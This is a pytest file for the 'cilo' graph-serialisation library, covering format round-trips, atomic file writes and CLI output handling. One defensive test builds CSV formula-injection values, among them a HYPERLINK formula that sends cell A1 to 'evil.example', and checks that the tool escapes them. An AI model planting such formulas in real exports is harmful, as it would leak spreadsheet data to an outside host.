"""``cilo.dump`` / ``cilo.dumps``: every format, stable text, and files written whole or not at all."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from rdflib.compare import isomorphic

import cilo
from cilo import CiloError
from cilo.formats import table
from cilo.writing import WRITE_FORMATS
from tests.conftest import EXAMPLES, FIXTURES, run_cli

COMPLETE = FIXTURES / "describe" / "complete.yaml"


@pytest.mark.parametrize("fmt", [f for f in WRITE_FORMATS if f != "csv"])
def test_every_format_reads_back_the_same_graph(fmt: str, tmp_path: Path) -> None:
    graph = cilo.load(COMPLETE)
    target = tmp_path / f"out.{fmt}"
    assert not cilo.dump(graph, target)
    assert isomorphic(cilo.load(target), graph)


@pytest.mark.parametrize("fmt", list(WRITE_FORMATS))
def test_the_same_graph_is_written_as_the_same_text(fmt: str) -> None:
    assert cilo.dumps(cilo.load(COMPLETE), fmt) == cilo.dumps(cilo.load(COMPLETE), fmt)


def test_a_failed_write_leaves_the_target_as_it_was(tmp_path: Path) -> None:
    target = tmp_path / "keep.ttl"
    target.write_text("precious\n")
    with pytest.raises(CiloError, match="cannot write 'docx'"):
        cilo.dump(cilo.load(COMPLETE), target, "docx")
    assert target.read_text() == "precious\n"
    assert [p.name for p in tmp_path.iterdir()] == ["keep.ttl"]


def test_an_interrupted_write_leaves_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "keep.ttl"
    target.write_text("precious\n")

    def boom(*args: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr("os.fsync", boom)
    with pytest.raises(OSError, match="disk full"):
        cilo.dump(cilo.load(COMPLETE), target)
    assert target.read_text() == "precious\n"
    assert [p.name for p in tmp_path.iterdir()] == ["keep.ttl"]


def test_written_files_keep_the_usual_mode(tmp_path: Path) -> None:
    from cilo.writing import write_atomic

    fresh = tmp_path / "fresh.txt"
    write_atomic(fresh, "x")
    umask = os.umask(0o022)
    os.umask(umask)
    assert fresh.stat().st_mode & 0o777 == 0o666 & ~umask
    kept = tmp_path / "kept.txt"
    kept.write_text("old")
    kept.chmod(0o640)
    write_atomic(kept, "new")
    assert kept.stat().st_mode & 0o777 == 0o640 and kept.read_text() == "new"


# --- where -o writes ------------------------------------------------------------------------------


def test_o_writes_through_a_symlink_and_keeps_its_targets_mode(tmp_path: Path) -> None:
    real = tmp_path / "real.ttl"
    real.write_text("old\n")
    real.chmod(0o640)
    link = tmp_path / "link.ttl"
    link.symlink_to(real)
    done = run_cli("convert", EXAMPLES / "english-ics.yaml", "--to", "ttl", "-o", link)
    assert done.returncode == 0, done.stderr
    assert link.is_symlink() and "cilo:Initiative" in real.read_text()
    assert real.stat().st_mode & 0o777 == 0o640
    assert not list(tmp_path.glob("*.tmp"))


@pytest.mark.parametrize("where", ["-", "/dev/stdout"])
def test_o_to_standard_output(where: str) -> None:
    done = run_cli("convert", EXAMPLES / "english-ics.yaml", "--to", "nt", "-o", where)
    assert done.returncode == 0, done.stderr
    assert "<https://w3id.org/cilo#Initiative>" in done.stdout
    page = run_cli("report", EXAMPLES / "english-ics.yaml", "-o", where)
    assert page.returncode == 0 and page.stdout.rstrip().endswith("</html>")


@pytest.mark.parametrize(
    ("target", "needle"),
    [(".", "is a folder; give the name of a file to write"), ("missing/out.ttl", "no folder")],
)
def test_a_bad_o_is_one_line(target: str, needle: str, tmp_path: Path) -> None:
    done = run_cli("convert", EXAMPLES / "english-ics.yaml", "--to", "ttl", "-o", tmp_path / target)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.startswith("cilo: error: ") and needle in done.stderr and done.stderr.count("\n") == 1


# --- CSV cells that cannot run in a spreadsheet ---------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_read_back(tmp_path: Path) -> None:
    d = cilo.Description(base="https://example.org/csv/")
    d.initiative("i", '=HYPERLINK("https://evil.example/?"&A1, "click")')
    d.organization("o", "@SUM(1+1)")
    d.person("p", "-2+3")
    d.assign("o", "i", role="Evaluator", level="National")
    d.assign("p", "i", function="Catalyst", level="Local")
    text, _ = table.write(d.graph)
    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text and "'-2+3" in text
    assert isomorphic(
        table.read(text.encode(), "t.csv"), table.read(table.write(d.graph, guard=False)[0].encode(), "t.csv")
    )
    path = tmp_path / "d.yaml"
    path.write_text(d.serialize("yaml"), encoding="utf-8")
    guarded = run_cli("convert", path, "--to", "csv")
    raw = run_cli("convert", path, "--to", "csv", "--raw-csv")
    assert "'=HYPERLINK" in guarded.stdout and "'=HYPERLINK" not in raw.stdout and "=HYPERLINK" in raw.stdout
    query = ["query", "who-holds-role", path, "--format", "csv"]
    assert "'@SUM(1+1)" in run_cli(*query).stdout
    assert "'@SUM" not in run_cli(*query, "--raw-csv").stdout


def test_a_killed_writers_temporary_file_is_removed_by_the_next_write(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    from cilo.writing import write_atomic

    gone = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    target = tmp_path / "out.ttl"
    stale = tmp_path / f".out.ttl.{int(gone.stdout)}.k1ll3d.tmp"  # as a write killed by SIGKILL leaves it
    live = tmp_path / f".out.ttl.{os.getpid()}.busy.tmp"  # a write still running here
    other = tmp_path / f".other.ttl.{int(gone.stdout)}.k1ll3d.tmp"  # another file's
    for path in (stale, live, other):
        path.write_text("part")
    write_atomic(target, "whole\n")
    assert target.read_text() == "whole\n"
    assert not stale.exists() and live.exists() and other.exists()
